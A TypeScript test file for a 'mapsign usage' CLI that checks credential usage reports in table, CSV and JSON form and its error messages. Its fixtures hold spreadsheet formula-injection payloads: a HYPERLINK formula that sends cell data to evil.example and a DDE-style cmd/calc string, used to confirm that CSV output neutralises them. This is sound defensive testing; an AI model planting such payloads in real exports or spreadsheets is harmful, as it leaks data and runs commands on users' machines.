/**
 * `mapsign usage` as the built binary runs it, on a real SQLite file: labels in every report
 * that names a credential, `--until` including its day, `--by hour`, and `--csv` read back by a
 * strict RFC 4180 reader with hostile labels and channels that must reach a spreadsheet as text.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { before, describe, it } from 'node:test';
import { openSqliteStore } from '../../src/store/index.js';
import { readCsv } from '../support/csv-reader.js';
import { runCli, tempDir } from './helpers.js';

const FORMULA_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const FORMULA_CHANNEL = '@SUM(1+1)*cmd|\' /C calc\'!A0';

describe('mapsign usage', () => {
  const db = join(tempDir('mapsign-cli-usage-'), 'usage.db');
  before(async () => {
    const store = openSqliteStore(db);
    await store.insertCredential({ id: 'gme-acme', scheme: 'google', label: 'Acme, "web" app', secretText: 'c2VjcmV0LXRleHQtZm9yLXRlc3Rz', createdAt: Date.UTC(2026, 0, 1) });
    await store.insertCredential({ id: 'gme-evil', scheme: 'google', label: FORMULA_LABEL, secretText: 'c2VjcmV0LXRleHQtZm9yLXRlc3Rz', createdAt: Date.UTC(2026, 0, 1) });
    await store.recordUsage([
      { day: '2026-01-10', hour: 9, credentialId: 'gme-acme', channel: 'web', outcome: 'ok', count: 4 },
      { day: '2026-01-10', hour: 17, credentialId: 'gme-acme', channel: 'web', outcome: 'SIGNATURE_MISMATCH', count: 1 },
      { day: '2026-01-11', hour: 0, credentialId: 'gme-evil', channel: FORMULA_CHANNEL, outcome: 'ok', count: 2 },
      { day: '2026-01-12', hour: 3, credentialId: '', channel: '', outcome: 'UNKNOWN_CREDENTIAL', count: 6 },
    ]);
    await store.close();
  });

  it('shows labels in the table, and --until includes its day', async () => {
    const result = await runCli(['usage', '--until', '2026-01-11', '--db', db]);
    assert.equal(result.status, 0, result.stderr);
    assert.equal(
      result.stdout,
      [
        `CLIENT    ${'LABEL'.padEnd(FORMULA_LABEL.length)}  TOTAL  OK  REFUSED  FAILED  OUTCOMES`,
        `gme-acme  ${'Acme, "web" app'.padEnd(FORMULA_LABEL.length)}  5      4   1        0       SIGNATURE_MISMATCH=1`,
        `gme-evil  ${FORMULA_LABEL}  2      2   0        0`,
        '',
      ].join('\n'),
    );
    const none = await runCli(['usage', '--since', '2026-01-12', '--until', '2026-01-12', '--db', db]);
    assert.match(none.stdout, /^\(none\)\s+-\s+6\s+0\s+6\s+0\s+UNKNOWN_CREDENTIAL=6\n$/m);
  });

  it('--by hour counts per UTC hour', async () => {
    const result = await runCli(['usage', '--by', 'hour', '--since', '2026-01-10', '--until', '2026-01-10', '--db', db]);
    assert.equal(result.status, 0, result.stderr);
    assert.equal(result.stdout, ['HOUR               TOTAL  OK  REFUSED  FAILED  OUTCOMES', '2026-01-10T09:00Z  4      4   0        0', '2026-01-10T17:00Z  1      0   1        0       SIGNATURE_MISMATCH=1', ''].join('\n'));
  });

  it('--csv is RFC 4180 with a column per outcome, and text cells that would run as formulas start with an apostrophe', async () => {
    for (const args of [['--csv'], ['--format', 'csv']]) {
      const result = await runCli(['usage', '--by', 'channel', ...args, '--db', db]);
      assert.equal(result.status, 0, result.stderr);
      assert.deepEqual(readCsv(result.stdout), [
        ['client', 'label', 'channel', 'total', 'ok', 'refused', 'failed', 'SIGNATURE_MISMATCH', 'UNKNOWN_CREDENTIAL'],
        ['', '', '', '6', '0', '6', '0', '0', '6'],
        ['gme-acme', 'Acme, "web" app', 'web', '5', '4', '1', '0', '1', '0'],
        ['gme-evil', `'${FORMULA_LABEL}`, `'${FORMULA_CHANNEL}`, '2', '2', '0', '0', '0', '0'],
      ]);
    }
    const byDay = await runCli(['usage', '--by', 'client-day', '--csv', '--db', db]);
    assert.deepEqual(readCsv(byDay.stdout).map((record) => record.slice(0, 4)), [
      ['client', 'label', 'day', 'total'],
      ['', '', '2026-01-12', '6'],
      ['gme-acme', 'Acme, "web" app', '2026-01-10', '5'],
      ['gme-evil', `'${FORMULA_LABEL}`, '2026-01-11', '2'],
    ]);
  });

  it('--json carries the label; a bad range or format is a usage error saying what is accepted', async () => {
    const json = JSON.parse((await runCli(['usage', '--json', '--since', '2026-01-10', '--until', '2026-01-10', '--db', db])).stdout) as { group: { credentialId: string }; label: string }[];
    assert.deepEqual(json.map((line) => [line.group.credentialId, line.label]), [['gme-acme', 'Acme, "web" app']]);
    const cases: [string[], string][] = [
      [['--since', '2026-01-11', '--until', '2026-01-10'], 'mapsign usage: --until 2026-01-10 is before --since 2026-01-11; both days are included, so give --until on or after --since.\n'],
      [['--until', '2026-02-30'], 'mapsign usage: --until takes a real UTC day as YYYY-MM-DD, e.g. 2026-01-31, not "2026-02-30".\n'],
      [['--json', '--csv'], 'mapsign usage: Choose one output format, not json and csv: --format table|json|csv (or --json, --csv).\n'],
      [['--format', 'xml'], 'mapsign usage: --format must be table, json or csv, not "xml".\n'],
      [['--by', 'week'], 'mapsign usage: --by must be client, channel, day, hour or client-day, not "week".\n'],
    ];
    for (const [args, message] of cases) {
      const result = await runCli(['usage', ...args, '--db', db]);
      assert.equal(result.status, 2, args.join(' '));
      assert.equal(result.stderr, `${message}Run 'mapsign usage --help' for usage.\n`, args.join(' '));
    }
  });
});
